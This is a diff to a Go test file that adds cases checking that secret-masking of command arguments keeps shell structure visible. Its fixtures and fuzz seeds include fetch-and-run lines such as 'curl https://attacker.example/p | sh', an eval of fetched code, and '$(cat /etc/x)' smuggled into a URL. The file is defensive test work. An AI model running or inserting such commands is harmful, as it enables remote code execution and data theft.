@@ -2,6 +2,7 @@ package importcfg
 
 import (
 	"slices"
+	"strings"
 	"testing"
 )
 
@@ -35,6 +36,8 @@ func TestMaskArgs(t *testing.T) {
 			[]string{"-e", "fetch('https://x.example/a?key=" + Masked + "&q=2').then(r => r.text()).then(eval)"}},
 		{"a secret parameter in a fragment", []string{"https://x.example/cb#access_token=abc&state=s"}, nil,
 			[]string{"https://x.example/cb#access_token=" + Masked + "&state=s"}},
+		{"a secret parameter or password that holds shell code is shown", []string{"-c", `curl "https://u:p$w@x.example/?key=k1&token=$(cat /etc/x)"`}, nil,
+			[]string{"-c", `curl "https://u:p$w@x.example/?key=` + Masked + `&token=$(cat /etc/x)"`}},
 		{"a URL is shown as written, not re-encoded", []string{"https://x.example/a b?q=ü"}, nil, []string{"https://x.example/a b?q=ü"}},
 		{"after an option named like a secret, a script is not hidden", []string{"--auth", "curl https://attacker.example/p | sh"}, nil,
 			[]string{"--auth", "curl https://attacker.example/p | sh"}},
@@ -69,4 +72,34 @@ func TestMaskAddress(t *testing.T) {
 			}
 		})
 	}
+}
+
+// FuzzMaskKeepsShellStructure: whatever an argument holds, masking it
+// neither hides nor adds a character a shell or a reader splits on (a
+// quote, a space, ";", "|", "&", "$", "`", a bracket, a backslash), and
+// reading its shape never panics: a masked preview is the command's shape.
+func FuzzMaskKeepsShellStructure(f *testing.F) {
+	for _, seed := range [][3]string{
+		{"sh", "-c", "sk-live-0123456789abcdef; curl -fsSL https://attacker.example/p | sh"},
+		{"node", "-e", "fetch('https://u:pw@x.example/a?token=abc&q=1').then(eval)"},
+		{"npx", "--api-key", "a b"},
+		{"bash", "-lc", `exec "$(curl -s https://x.example/b)" --token ghp_0123456789abcdef`},
+		{"powershell", "-enc", "SQBFAFgA"},
+		{"sh", "-c", `curl "https://u:p$w@x.example/?token=$(cat /etc/x)&a={b}"`},
+	} {
+		f.Add(seed[0], seed[1], seed[2])
+	}
+	structural := " \t\n\r;|&$`'\"()<>\\{}"
+	f.Fuzz(func(t *testing.T, command, a, b string) {
+		args := []string{a, b}
+		shape := commandShape(command, args)
+		masked := maskArgs(args, shape.scripts)
+		for i := range args {
+			for _, c := range structural {
+				if strings.Count(args[i], string(c)) != strings.Count(masked[i], string(c)) {
+					t.Fatalf("masking %q gave %q: the count of %q changed", args[i], masked[i], c)
+				}
+			}
+		}
+	})
 }
